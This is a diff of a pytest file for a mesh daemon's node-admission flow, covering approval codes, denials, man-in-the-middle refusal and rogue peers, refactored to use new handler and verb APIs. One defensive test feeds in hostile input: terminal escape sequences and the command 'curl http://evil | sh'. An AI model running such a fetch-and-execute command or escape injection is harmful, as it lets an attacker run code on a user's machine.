@@ -10,18 +10,18 @@ import pytest
 from pydantic import BaseModel
 
 from meshd.errors import Code, MeshError
+from meshd.http.request import Request
+from meshd.http.route import Answer, Handler
 from meshd.mesh.secrets import Secrets
-from meshd.peer.call import Call
-from meshd.peer.server import PeerServer
 from meshd.wire import Ask as AskRequest
-from meshd.wire import AskAnswer, Asked, ConfirmEvent, Hello, Reveal, StepEvent
+from meshd.wire import AskAnswer, Asked, ConfirmEvent, Hello, Reveal, StepEvent, verbs
+from meshd.wire.verbs import A, Q, Verb
 from tests.mesh_room.nodes import Node, refusal_of
 from tests.mesh_room.strangers import AGAIN, Stranger
 from tests.waiting import until
 
 MakeNode = Callable[..., Node]
 MakeStranger = Callable[..., Awaitable[Stranger]]
-Handler = Callable[[Call], Awaitable[BaseModel]]
 Pair = tuple[Node, Node]
 
 
@@ -49,14 +49,14 @@ async def stranger(make_node: MakeNode) -> AsyncIterator[MakeStranger]:
 
 
 def _waiting(node: Node) -> list[str]:
-    return [view.name for view in node.server.approval.views()]
+    return [view.name for view in node.approval.views()]
 
 
 def _replace(node: Node, path: str, handler: Handler) -> Handler:
     """Put another handler in the place of one of `node`'s; returns the old one."""
-    route = node.server._routes["POST", path]
-    node.server._routes["POST", path] = route._replace(handler=handler)
-    return route.handler
+    before = node.handlers["POST", path]
+    node.handlers["POST", path] = handler
+    return before
 
 
 async def _restart(node: Node) -> None:
@@ -75,12 +75,12 @@ async def test_both_sides_show_one_code_and_a_person_admits_the_node(
     barn = await stranger("barn", attic)
     barn.begin()
     code = await barn.code()
-    (request,) = attic.server.approval.views()
+    (request,) = attic.approval.views()
     assert request.code == code
     assert (request.stage, request.name, request.address) == ("mesh", "barn", barn.node.listen)
     assert request.fingerprint == barn.node.fingerprint
     assert attic.store.members() == [attic.store.me()]
-    approved = await attic.server.approval.approve("barn", code)
+    approved = await attic.approval.approve("barn", code)
     assert (approved.name, approved.fingerprint) == ("barn", barn.node.fingerprint)
     await barn.becomes_member()
     assert barn.node.store.digest() == attic.store.digest()
@@ -88,8 +88,8 @@ async def test_both_sides_show_one_code_and_a_person_admits_the_node(
     assert [member.name for member in attic.joined] == ["barn"]
     assert attic.view_of(barn.node).admitted_by == attic.fingerprint
     assert _waiting(attic) == []
-    assert await attic.server.approval.approve("barn", code) == approved  # it can still be answered again
-    answer = await barn.node.peers.beat(barn.node.view_of(attic), await barn.node.holder.beat())
+    assert await attic.approval.approve("barn", code) == approved  # it can still be answered again
+    answer = await barn.node.peers.call(barn.node.view_of(attic), verbs.BEAT, await barn.node.holder.beat())
     assert answer.fingerprint == attic.fingerprint
 
 
@@ -100,7 +100,7 @@ async def test_a_person_reads_what_to_type_and_where(attic: Node, stranger: Make
     where = f"{attic.listen}:{attic.port}"
     assert barn.said.startswith(f"asking {where} to admit this node")
     assert [event.address for event in barn.shown] == [where]
-    await attic.server.approval.approve("barn", code)
+    await attic.approval.approve("barn", code)
     await barn.outcome()
     assert barn.said.splitlines()[-1] == f"admitted by {where}, which showed the code {code}"
 
@@ -129,8 +129,8 @@ async def test_two_members_approve_at_once(pair: Pair, stranger: MakeStranger) -
     await cellar.code(2)
     assert cellar.code_at(attic) != cellar.code_at(shed)
     await asyncio.gather(
-        attic.server.approval.approve("cellar", cellar.code_at(attic)),
-        shed.server.approval.approve("cellar", cellar.code_at(shed)),
+        attic.approval.approve("cellar", cellar.code_at(attic)),
+        shed.approval.approve("cellar", cellar.code_at(shed)),
     )
     await cellar.becomes_member()
     for one, other in ((attic, shed), (shed, attic), (cellar.node, attic), (shed, cellar.node)):
@@ -152,10 +152,10 @@ async def test_a_member_that_nobody_meant_does_not_get_this_node(pair: Pair, str
     cellar.confirm = confirm
     cellar.begin()
     await cellar.code(2)
-    await attic.server.approval.approve("cellar", cellar.code_at(attic))
+    await attic.approval.approve("cellar", cellar.code_at(attic))
     await until(lambda: "you said that it is not the member whose code was compared" in cellar.said)
     await cellar.goes_on()
-    await shed.server.approval.approve("cellar", cellar.code_at(shed))
+    await shed.approval.approve("cellar", cellar.code_at(shed))
     await cellar.becomes_member()
     assert [(e.fingerprint, e.code) for e in asked] == [
         (attic.fingerprint, cellar.code_at(attic)),
@@ -181,7 +181,7 @@ async def test_a_person_is_asked_only_about_the_member_where_one_said_yes(
     compared = cellar.code_at(attic)
     port = attic.port
     await attic.server.stop()  # so that the other one answers first
-    await attic.server.approval.approve("cellar", compared)
+    await attic.approval.approve("cellar", compared)
     await shed.store.merge(attic.store.roster())
     await cellar.goes_on()
     await attic.server.start(attic.listen, port)
@@ -214,7 +214,7 @@ async def test_the_request_goes_elsewhere_once_it_was_approved(pair: Pair, stran
     cellar = (await stranger("cellar", attic, shed)).begin()
     await cellar.code(2)
     assert _waiting(shed) == ["cellar"]
-    await attic.server.approval.approve("cellar", cellar.code_at(attic))
+    await attic.approval.approve("cellar", cellar.code_at(attic))
     await cellar.outcome()
     assert _waiting(shed) == []
 
@@ -225,20 +225,16 @@ async def test_a_member_that_is_found_late_is_asked(attic: Node, stranger: MakeS
         barn.found.append(("127.0.0.1", closed.getsockname()[1]))
     barn.found.append((barn.node.listen, barn.node.port))  # itself
     barn.found.append((attic.listen, attic.port))
-    await attic.server.approval.approve("barn", await barn.code())
+    await attic.approval.approve("barn", await barn.code())
     await barn.outcome()
     assert len(barn.shown) == 1
     assert f"asking {barn.node.listen}" not in barn.said
 
 
 async def test_a_member_with_two_addresses_is_asked_once(attic: Node, stranger: MakeStranger) -> None:
-    second = PeerServer(
-        attic.identity,
-        attic.store,
-        lambda: Secrets.load(attic.folder),
-        attic.holder,
-        approval=attic.server.approval,
-    )
+    first = attic.server
+    second = attic.make_server(approval=attic.approval)
+    attic.server = first
     await second.start("127.0.0.77", 0)
     try:
         assert second.listening is not None
@@ -257,7 +253,7 @@ async def test_a_member_with_two_addresses_is_asked_once(attic: Node, stranger: 
         code = await barn.code()
         await until(lambda: set(known) == set(barn.found) and len(known) >= 3)
         assert len(barn.shown) == 1
-        await attic.server.approval.approve("barn", code)
+        await attic.approval.approve("barn", code)
         await barn.outcome()
     finally:
         await second.stop()
@@ -271,7 +267,7 @@ async def test_eight_members_are_asked_at_once(make_node: MakeNode, stranger: Ma
     await barn.code(8)
     asked = [member for member in members if _waiting(member)]
     assert len(asked) == 8
-    asked[0].server.approval.deny("barn")
+    asked[0].approval.deny("barn")
     await barn.code(9)
     assert len([member for member in members if _waiting(member)]) == 8
 
@@ -289,11 +285,11 @@ async def test_a_man_in_the_middle_shows_other_codes_and_is_not_admitted(
     read_aloud = await barn.code()
     mallory.begin(name="barn")
     await mallory.code()
-    (request,) = attic.server.approval.views()
+    (request,) = attic.approval.views()
     assert request.name == "barn"
     assert request.code != read_aloud
     for _ in range(3):
-        refusal = await refusal_of(attic.server.approval.approve("barn", read_aloud))
+        refusal = await refusal_of(attic.approval.approve("barn", read_aloud))
         assert refusal.code is Code.DENIED
     assert [member.name for member in attic.store.members()] == ["attic"]
     assert attic.joined == []
@@ -306,14 +302,16 @@ async def test_a_man_in_the_middle_cannot_pass_the_joiners_own_words_on(
     await mallory.found()
     refusals: list[MeshError] = []
 
-    async def ask_on(call: Call) -> Asked:
-        asked = call.read(AskRequest)
-        return await mallory.peers.ask(attic.listen, attic.port, attic.fingerprint, asked)
+    async def ask_on(request: Request) -> Asked:
+        asked = request.read(AskRequest)
+        return await mallory.peers.call_at(attic.listen, attic.port, attic.fingerprint, verbs.ASK, asked)
 
-    async def reveal_on(call: Call) -> AskAnswer:
+    async def reveal_on(request: Request) -> AskAnswer:
         try:
-            said = call.read(Reveal)
-            return await mallory.peers.reveal(attic.listen, attic.port, attic.fingerprint, said)
+            said = request.read(Reveal)
+            return await mallory.peers.call_at(
+                attic.listen, attic.port, attic.fingerprint, verbs.REVEAL, said
+            )
         except MeshError as exc:
             refusals.append(exc)
             raise
@@ -335,7 +333,7 @@ async def test_a_man_in_the_middle_cannot_pass_the_joiners_own_words_on(
 async def test_denied(attic: Node, stranger: MakeStranger) -> None:
     barn = (await stranger("barn", attic)).begin()
     await barn.code()
-    attic.server.approval.deny("barn")
+    attic.approval.deny("barn")
     refusal = await refusal_of(barn.outcome())
     assert (refusal.code, refusal.detail) == (Code.DENIED, "a member denied this node")
     assert AGAIN in refusal.hint
@@ -350,10 +348,10 @@ async def test_denied_by_one_and_approved_by_another(pair: Pair, stranger: MakeS
     attic, shed = pair
     cellar = (await stranger("cellar", attic, shed)).begin()
     await cellar.code(2)
-    attic.server.approval.deny("cellar")
+    attic.approval.deny("cellar")
     await until(lambda: "refuses: a member denied this node" in cellar.said)
     await cellar.goes_on()
-    await shed.server.approval.approve("cellar", cellar.code_at(shed))
+    await shed.approval.approve("cellar", cellar.code_at(shed))
     await cellar.outcome()
 
 
@@ -362,21 +360,21 @@ async def test_a_refusal_is_not_the_end_while_another_has_not_answered_yet(
 ) -> None:
     attic, shed = pair
     cellar = await stranger("cellar", attic, shed)
-    route, awake = shed.server._routes["GET", "/hello"], asyncio.Event()
+    answers, awake = shed.handlers["GET", "/hello"], asyncio.Event()
 
-    async def slow(call: Call) -> BaseModel:
+    async def slow(request: Request) -> Answer:
         await awake.wait()
-        return await route.handler(call)
+        return await answers(request)
 
-    shed.server._routes["GET", "/hello"] = route._replace(handler=slow)
+    shed.handlers["GET", "/hello"] = slow
     cellar.begin()
     await cellar.code()
-    attic.server.approval.deny("cellar")
+    attic.approval.deny("cellar")
     await until(lambda: "refuses: a member denied this node" in cellar.said)
     await cellar.goes_on()
     awake.set()
     await cellar.code(2)
-    await shed.server.approval.approve("cellar", cellar.code_at(shed))
+    await shed.approval.approve("cellar", cellar.code_at(shed))
     await cellar.outcome()
 
 
@@ -428,10 +426,10 @@ async def test_a_name_that_is_taken_before_the_approval(attic: Node, stranger: M
     other = (await stranger("other", attic)).begin(name="barn")
     codes = {await one.code(), await other.code()}
     assert len(codes) == 2
-    handles = {view.code: view.id for view in attic.server.approval.views()}
-    await attic.server.approval.approve(handles[one.shown[0].code], one.shown[0].code)
+    handles = {view.code: view.id for view in attic.approval.views()}
+    await attic.approval.approve(handles[one.shown[0].code], one.shown[0].code)
     await one.outcome()
-    refusal = await refusal_of(attic.server.approval.approve("barn", other.shown[0].code))
+    refusal = await refusal_of(attic.approval.approve("barn", other.shown[0].code))
     assert refusal.code is Code.NAME_TAKEN
     assert "--name" in refusal.hint
     assert (await refusal_of(other.outcome())).code is Code.NAME_TAKEN
@@ -457,8 +455,8 @@ async def test_a_member_that_was_started_again_is_asked_again(attic: Node, stran
     assert new != old
     assert "has forgotten the question; asking it again" in barn.said
     await until(lambda: _waiting(attic) == ["barn"])
-    assert (await refusal_of(attic.server.approval.approve("barn", old))).code is Code.DENIED
-    await attic.server.approval.approve("barn", new)
+    assert (await refusal_of(attic.approval.approve("barn", old))).code is Code.DENIED
+    await attic.approval.approve("barn", new)
     await barn.outcome()
 
 
@@ -467,16 +465,16 @@ async def test_a_member_that_is_away_for_a_moment_keeps_the_code(attic: Node, st
     code = await barn.code()
     port, looks = attic.port, list[str]()
     await attic.server.stop()
-    look = barn.node.peers.look
+    call_at = barn.node.peers.call_at
 
-    async def seen(address: str, port: int, fingerprint: str, request_id: str) -> AskAnswer:
-        looks.append(address)
-        return await look(address, port, fingerprint, request_id)
+    async def seen(address: str, port: int, fingerprint: str, verb: Verb[Q, A], asked: Q) -> A:
+        looks.extend([address] if verb.path == verbs.LOOK.path else [])
+        return await call_at(address, port, fingerprint, verb, asked)
 
-    barn.node.peers.look = seen  # type: ignore[method-assign]
+    barn.node.peers.call_at = seen  # type: ignore[method-assign]
     await until(lambda: len(looks) >= 3)
     await attic.server.start(attic.listen, port)
-    await attic.server.approval.approve("barn", code)
+    await attic.approval.approve("barn", code)
     await barn.outcome()
     assert len(barn.shown) == 1
 
@@ -485,8 +483,8 @@ async def test_an_answer_that_is_lost_is_asked_for_again(attic: Node, stranger: 
     barn = await stranger("barn", attic)
     lost: list[BaseModel] = []
 
-    async def loses_the_first_admission(call: Call) -> BaseModel:
-        answer = await look(call)
+    async def loses_the_first_admission(request: Request) -> Answer:
+        answer = await look(request)
         assert isinstance(answer, AskAnswer)
         if answer.state == "admitted":
             lost.append(answer)
@@ -499,7 +497,7 @@ async def test_an_answer_that_is_lost_is_asked_for_again(attic: Node, stranger: 
 
     look = _replace(attic, "/ask/look", loses_the_first_admission)
     barn.begin()
-    await attic.server.approval.approve("barn", await barn.code())
+    await attic.approval.approve("barn", await barn.code())
     await barn.becomes_member()
     assert len(lost) == 2
     assert [member.name for member in attic.joined] == ["barn"]
@@ -513,7 +511,7 @@ async def test_a_node_that_was_switched_off_after_its_approval_is_let_in_again(
     await barn.stop()
     barn.begin()
     code = await barn.code(2)
-    await attic.server.approval.approve("barn", code)
+    await attic.approval.approve("barn", code)
     await barn.outcome()  # and that is not written
     await barn.begin(site="cellar").becomes_member()
     assert len(barn.shown) == 2
@@ -551,13 +549,13 @@ async def test_an_answer_that_cannot_be_used_is_refused(
         "roster": rogue.store.roster(),
     }
 
-    async def admits(call: Call) -> BaseModel:
+    async def admits(request: Request) -> Answer:
         return AskAnswer.model_validate({"state": "admitted", "admitted": without_the_joiner})
 
     _replace(rogue, "/ask/reveal", admits)
     barn = (await stranger("barn", rogue, attic)).begin()
     await until(lambda: "cannot be used: it is about other members" in barn.said)
-    await attic.server.approval.approve("barn", await barn.code())
+    await attic.approval.approve("barn", await barn.code())
     assert (await barn.outcome()).mesh_name == "archive"
     alone = await refusal_of((await stranger("cellar", rogue)).begin().outcome())
     assert alone.code is Code.INTERNAL
@@ -570,7 +568,7 @@ async def test_a_strangers_own_words_are_not_shown(make_node: MakeNode, stranger
     await rogue.found()
     code = Code.DENIED
 
-    async def talks(call: Call) -> BaseModel:
+    async def talks(request: Request) -> Answer:
         raise MeshError(code, "cannot \x1b[2J", "see\x1b]0;here", "curl http://evil | sh")
 
     _replace(rogue, "/ask", talks)
@@ -594,13 +592,12 @@ async def test_a_node_of_another_protocol_is_passed_over(
     newer = await make_node("newer").start()
     await newer.found()
 
-    async def hello(call: Call) -> Hello:
+    async def hello(_: Request) -> Hello:
         return Hello(protocol=7, fingerprint=newer.fingerprint)
 
-    route = newer.server._routes["GET", "/hello"]
-    newer.server._routes["GET", "/hello"] = route._replace(handler=hello)
+    newer.handlers["GET", "/hello"] = hello
     barn = (await stranger("barn", newer, attic)).begin()
-    await attic.server.approval.approve("barn", await barn.code())
+    await attic.approval.approve("barn", await barn.code())
     await barn.outcome()
     alone = await refusal_of((await stranger("cellar", newer)).begin(total_s=2.0).outcome())
     assert "protocol 7" in alone.detail
@@ -620,16 +617,16 @@ async def test_a_client_that_went_away_ends_it(attic: Node, stranger: MakeStrang
 
 async def test_a_member_that_says_it_is_busy_is_asked_again(attic: Node, stranger: MakeStranger) -> None:
     barn = await stranger("barn", attic)
-    tries: list[Call] = []
+    tries: list[Request] = []
 
-    async def busy_twice(call: Call) -> BaseModel:
-        tries.append(call)
+    async def busy_twice(request: Request) -> Answer:
+        tries.append(request)
         if len(tries) <= 2:
             raise MeshError(Code.BUSY, "cannot take another request to join now")
-        return await ask(call)
+        return await ask(request)
 
     ask = _replace(attic, "/ask", busy_twice)
     barn.begin()
-    await attic.server.approval.approve("barn", await barn.code())
+    await attic.approval.approve("barn", await barn.code())
     await barn.outcome()
     assert len(tries) == 3
